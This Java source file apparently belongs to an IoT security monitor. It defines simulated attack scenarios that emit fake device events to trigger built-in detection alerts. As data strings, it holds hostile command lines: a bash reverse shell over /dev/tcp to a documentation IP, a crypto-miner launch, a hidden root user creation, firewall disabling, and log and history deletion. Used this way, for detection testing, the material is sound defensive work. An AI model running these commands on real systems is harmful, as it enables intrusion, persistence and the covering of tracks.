package dev.vigil.server.simulator;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;

/**
 * The attacks {@code --attacks} plays, one per built-in alert of {@code docs/detections.md}. Most
 * are events the compromised device's agent reports; the two SAS scenarios are connection
 * attempts the hub must refuse.
 */
public enum AttackScenario {
    BRUTE_FORCE("IoT_BruteForceFailed, IoT_BruteForceSucceeded") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            List<ObjectNode> events = new ArrayList<>();
            for (int attempt = 0; attempt < 6; attempt++) {
                events.add(writer.login(now.plusMillis(attempt * 200L), "admin", "203.0.113.45", "Fail"));
            }
            events.add(writer.login(now.plusMillis(1_400), "admin", "203.0.113.45", "Success"));
            return events;
        }
    },
    LOCAL_LOGIN("IoT_LocalLoginFailed, IoT_LocalLoginSucceeded") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.login(now, "root", "", "Fail"), writer.login(now.plusMillis(500), "root", "", "Success"));
        }
    },
    REVERSE_SHELL("IoT_ReverseShell") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "33", "www-data"));
        }
    },
    CRYPTO_MINER("IoT_CryptoCoinMiner") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/tmp/.cache/xmrig", "/tmp/.cache/xmrig -o stratum+tcp://pool.example.net:3333 -u wallet", "33", "www-data"));
        }
    },
    BINARY_COMMAND_LINE("IoT_BinaryCommandLine") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/bin/sh",
                    "sh -c \"printf '\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01\\x00\\x00\\x00' > /tmp/.x && chmod +x /tmp/.x\"", "0", "root"));
        }
    },
    DISABLE_FIREWALL("IoT_DisableFirewall") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/usr/sbin/ufw", "ufw disable", "0", "root"));
        }
    },
    PORT_FORWARDING("IoT_PortForwarding") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/usr/bin/ssh", "ssh -N -R 9000:127.0.0.1:22 tunnel@203.0.113.9", "0", "root"));
        }
    },
    KNOWN_ATTACK_TOOL("IoT_KnownAttackTool") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/usr/bin/nmap", "nmap -sS -p 1-1024 10.20.0.0/24", "0", "root"));
        }
    },
    BASH_HISTORY_CLEARED("IoT_BashHistoryCleared") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/bin/rm", "rm -f /root/.bash_history", "0", "root"));
        }
    },
    SYSTEM_LOGS_REMOVED("IoT_SystemLogsRemoved") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/bin/rm", "rm -rf /var/log/auth.log /var/log/syslog", "0", "root"));
        }
    },
    SUSPICIOUS_USERADD("IoT_SuspiciousUseradd") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 -M sysupdate", "0", "root"));
        }
    },
    SUSPICIOUS_NOHUP("IoT_SuspiciousNohup") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.processCreate(now, "/usr/bin/nohup", "nohup /tmp/.x/agent --quiet", "33", "www-data"));
        }
    },
    SUSPICIOUS_IP("IoT_SuspiciousIpCommunication") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of(writer.connectionCreate(now, "198.51.100.23", "6667", "/tmp/.x/agent"));
        }
    },
    EXPIRED_SAS_TOKEN("IoT_Expired_SAS_Token") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of();
        }
    },
    INVALID_SAS_TOKEN("IoT_Invalid_SAS_Token") {
        @Override
        List<ObjectNode> events(SecurityMessageWriter writer, Instant now) {
            return List.of();
        }
    };

    private final String alertTypes;

    AttackScenario(String alertTypes) {
        this.alertTypes = alertTypes;
    }

    /** The alert type codes this scenario should raise. */
    public String alertTypes() {
        return alertTypes;
    }

    /** Whether the scenario is a refused connection attempt rather than events. */
    public boolean isCredentialAttack() {
        return this == EXPIRED_SAS_TOKEN || this == INVALID_SAS_TOKEN;
    }

    /** The events the agent reports, in order, starting at {@code now}; none for the credential attacks. */
    abstract List<ObjectNode> events(SecurityMessageWriter writer, Instant now);
}
